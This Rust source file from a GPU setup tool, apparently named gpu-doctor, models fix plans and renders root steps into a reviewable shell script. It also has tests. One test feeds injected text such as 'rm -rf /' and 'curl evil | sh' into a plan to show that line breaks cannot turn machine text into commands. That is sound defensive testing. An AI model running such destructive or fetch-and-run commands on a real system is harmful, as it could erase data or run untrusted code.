//! The plan model: what a fix does, step by step, and the prose shown for it.

use std::path::PathBuf;

use gpu_doctor_model::shell::{Shell, ShellCommand};
use serde::{Deserialize, Serialize};

use crate::choose::Choice;

/// What gpu-doctor would do (or tell the user to do) to answer some findings.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Plan {
    /// Unique within one report: the first finding's id, with `-2`, `-3` … when several findings of
    /// one rule each have a plan (`gpu-doctor fix ID`).
    pub id: String,
    /// One line: what the machine is like when the plan is done.
    pub goal: String,
    /// The ids of the findings it answers.
    pub answers: Vec<String>,
    /// The Python environment it changes (its prefix), when it changes one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub env: Option<PathBuf>,
    /// The steps, in order.
    pub steps: Vec<Step>,
    /// For a framework install: the build chosen, and every candidate turned down with its reason.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub choice: Option<Choice>,
}

/// One step of a plan.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Step {
    /// What is done.
    pub kind: StepKind,
    /// Why it is needed.
    pub why: String,
    /// What it changes on the machine ("the torch package in /home/u/venv").
    pub changes: String,
    /// How it is undone.
    pub undo: String,
}

/// The four kinds of step. Only [`StepKind::User`] and [`StepKind::Verify`] are ever run by gpu-doctor.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum StepKind {
    /// Run as the user, without a shell.
    User { action: UserAction },
    /// Needs root: shown, copied, written to a reviewable script, never run by gpu-doctor. A shell
    /// line, because root steps use shell syntax (`$(uname -r)`); it never holds text read from
    /// another machine unquoted.
    Root { command: String },
    /// Something only a person can do: reboot, pick "Enroll MOK", replug the eGPU.
    Manual { text: String },
    /// Prove the result: the deep probe of `python`'s environment and the GPU smoke test of
    /// `frameworks` (package names) in it.
    Verify { python: PathBuf, frameworks: Vec<String> },
}

/// A user step's action.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "action", rename_all = "snake_case")]
pub enum UserAction {
    /// Run `argv[0]` with the rest as its arguments.
    Run { argv: Vec<String> },
    /// Write `text` to `path` (an activation hook), replacing what is there.
    Write { path: PathBuf, text: String },
}

impl Step {
    /// A user step that runs `argv`.
    pub fn run(argv: Vec<String>, why: impl Into<String>, changes: impl Into<String>, undo: impl Into<String>) -> Self {
        Self {
            kind: StepKind::User { action: UserAction::Run { argv } },
            why: why.into(),
            changes: changes.into(),
            undo: undo.into(),
        }
    }

    /// A root step: shown, never run.
    pub fn root(
        command: impl Into<String>,
        why: impl Into<String>,
        changes: impl Into<String>,
        undo: impl Into<String>,
    ) -> Self {
        Self {
            kind: StepKind::Root { command: without_sudo(&command.into()) },
            why: why.into(),
            changes: changes.into(),
            undo: without_sudo(&undo.into()),
        }
    }

    /// A manual step.
    pub fn manual(text: impl Into<String>, why: impl Into<String>) -> Self {
        Self {
            kind: StepKind::Manual { text: text.into() },
            why: why.into(),
            changes: String::new(),
            undo: String::new(),
        }
    }

    /// True for the steps gpu-doctor runs itself.
    pub fn is_run_by_gpu_doctor(&self) -> bool {
        matches!(self.kind, StepKind::User { .. } | StepKind::Verify { .. })
    }

    /// The step as one line for a person: a command quoted for `shell`, a root line prefixed as
    /// such, or the manual text. `Err` when an argument cannot be quoted safely for that shell.
    pub fn render(&self, shell: Shell) -> Result<String, String> {
        match &self.kind {
            StepKind::User { action: UserAction::Run { argv } } => render_argv(argv, shell),
            StepKind::User { action: UserAction::Write { path, .. } } => Ok(format!("write {}", path.display())),
            StepKind::Root { command } => Ok(command.clone()),
            StepKind::Manual { text } => Ok(text.clone()),
            // A bare `python` (pasted text: the other machine's own) is the one on its PATH.
            StepKind::Verify { python, .. } if python.components().count() == 1 => {
                render_argv(&["gpu-doctor".into(), "check".into(), "--deep".into()], shell)
            }
            StepKind::Verify { python, .. } => render_argv(
                &[
                    "gpu-doctor".into(),
                    "check".into(),
                    "--deep".into(),
                    "--python".into(),
                    python.display().to_string(),
                ],
                shell,
            ),
        }
    }
}

fn render_argv(argv: &[String], shell: Shell) -> Result<String, String> {
    let Some((program, args)) = argv.split_first() else { return Err("an empty command".into()) };
    ShellCommand::new(program.clone()).args(args.iter().cloned()).render(shell).map_err(|e| e.to_string())
}

impl Plan {
    /// The plan as the one paragraph a finding's `fix` shows: its commands in order, root and
    /// manual steps said as such. Generated from the steps, never written separately.
    pub fn prose(&self, shell: Shell) -> String {
        let mut parts = Vec::new();
        for step in &self.steps {
            let line = match step.render(shell) {
                Ok(line) => line,
                Err(e) => format!("(a command is left out: {e})"),
            };
            parts.push(match &step.kind {
                StepKind::User { .. } | StepKind::Manual { .. } => line,
                StepKind::Root { .. } => format!("as root: {line}"),
                StepKind::Verify { .. } => format!("then check: {line}"),
            });
        }
        let mut text = parts.join("; ");
        if let Some(alt) = self.choice.as_ref().and_then(|c| c.chosen.as_ref())
            && !alt.beyond_kb.is_empty()
        {
            text.push_str(&format!(" ({})", alt.beyond_kb));
        }
        text
    }

    /// The root steps as a script a person reviews and runs: `#!/bin/sh`, `set -e`, each step's
    /// reason as a comment. Text in the comments (the plan's id and goal, a step's why and undo:
    /// machine text such as a GPU's name or a path) is kept on its line: a line break in it becomes
    /// a space, so it can never become a command.
    pub fn root_script(&self) -> Option<String> {
        let roots: Vec<&Step> = self.steps.iter().filter(|s| matches!(s.kind, StepKind::Root { .. })).collect();
        if roots.is_empty() {
            return None;
        }
        let mut out = format!(
            "#!/bin/sh\n# gpu-doctor plan {}: {}\n# Review every line before running it as root.\nset -e\n",
            one_line(&self.id),
            one_line(&self.goal)
        );
        for step in roots {
            if let StepKind::Root { command } = &step.kind {
                out.push_str(&format!("\n# {}\n# undo: {}\n{command}\n", one_line(&step.why), one_line(&step.undo)));
            }
        }
        Some(out)
    }
}

/// `line` without the `sudo` in front of its commands (at its start and after `;`, `&&`, `||`,
/// `|`, `(`): a root step is run as root as a whole (shown as such, written to a root script), so
/// its commands carry no `sudo` of their own, whichever planner or knowledge-base row they came
/// from. A `sudo` with options (`sudo -u x`) is kept: removing it would change the command.
pub fn without_sudo(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find("sudo ") {
        let last = rest[..at].trim_end().chars().last().or_else(|| out.trim_end().chars().last());
        let starts = last.is_none_or(|c| matches!(c, ';' | '&' | '|' | '('));
        let after = rest[at + 5..].trim_start();
        out.push_str(&rest[..at]);
        if starts && !after.starts_with('-') && !after.is_empty() {
            rest = after;
        } else {
            out.push_str("sudo ");
            rest = &rest[at + 5..];
        }
    }
    out.push_str(rest);
    out
}

/// `text` on one line: each line break (`\n`, `\r`, and the other breaks a reader may honour) a space.
fn one_line(text: &str) -> String {
    text.replace(['\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}'], " ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_root_line_loses_the_sudo_of_each_command_only() {
        for (line, want) in [
            ("sudo apt install x", "apt install x"),
            ("sudo dkms remove a && sudo ldconfig", "dkms remove a && ldconfig"),
            ("echo y | sudo tee /etc/x; sudo rm -f /y", "echo y | tee /etc/x; rm -f /y"),
            ("sudo -u me make", "sudo -u me make"),
            ("pseudo thing", "pseudo thing"),
            ("echo 'sudo x'", "echo 'sudo x'"),
            ("modprobe nvidia", "modprobe nvidia"),
        ] {
            assert_eq!(without_sudo(line), want, "{line}");
        }
        let step = Step::root("sudo modprobe nvidia", "w", "c", "sudo modprobe -r nvidia");
        assert_eq!(
            (step.render(Shell::Posix).unwrap().as_str(), step.undo.as_str()),
            ("modprobe nvidia", "modprobe -r nvidia")
        );
    }

    /// A line break in machine text (a GPU's name in the goal) stays inside its comment line.
    #[test]
    fn machine_text_with_line_breaks_stays_in_the_root_script_s_comments() {
        let plan = Plan {
            id: "driver.x\nrm -rf /".into(),
            goal: "driver for NVIDIA H100\nrm -rf /home\r\ncurl evil | sh".into(),
            answers: Vec::new(),
            env: None,
            steps: vec![Step::root("modprobe nvidia", "why\nreboot", "c", "undo\nrm x")],
            choice: None,
        };
        let script = plan.root_script().unwrap();
        let commands: Vec<&str> =
            script.lines().filter(|l| !l.starts_with('#') && !l.is_empty() && *l != "set -e").collect();
        assert_eq!(commands, ["modprobe nvidia"], "{script}");
        assert!(script.contains("# gpu-doctor plan driver.x rm -rf /: driver for NVIDIA H100 rm -rf /home  curl"));
    }

    /// Each kind of step in the prose: a written file, a root line, a manual step and the check.
    #[test]
    fn the_prose_says_each_kind_of_step() {
        let write = Step {
            kind: StepKind::User { action: UserAction::Write { path: "/e/etc/hook.sh".into(), text: "x".into() } },
            why: String::new(),
            changes: String::new(),
            undo: String::new(),
        };
        let verify = Step {
            kind: StepKind::Verify { python: "/e/bin/python".into(), frameworks: vec!["torch".into()] },
            why: String::new(),
            changes: String::new(),
            undo: String::new(),
        };
        let plan = Plan {
            id: "x".into(),
            goal: String::new(),
            answers: Vec::new(),
            env: None,
            steps: vec![write, Step::root("modprobe nvidia", "", "", ""), Step::manual("Reboot.", ""), verify],
            choice: None,
        };
        assert_eq!(
            plan.prose(Shell::Posix),
            "write /e/etc/hook.sh; as root: modprobe nvidia; Reboot.; then check: gpu-doctor check --deep --python \
             /e/bin/python"
        );
    }
}
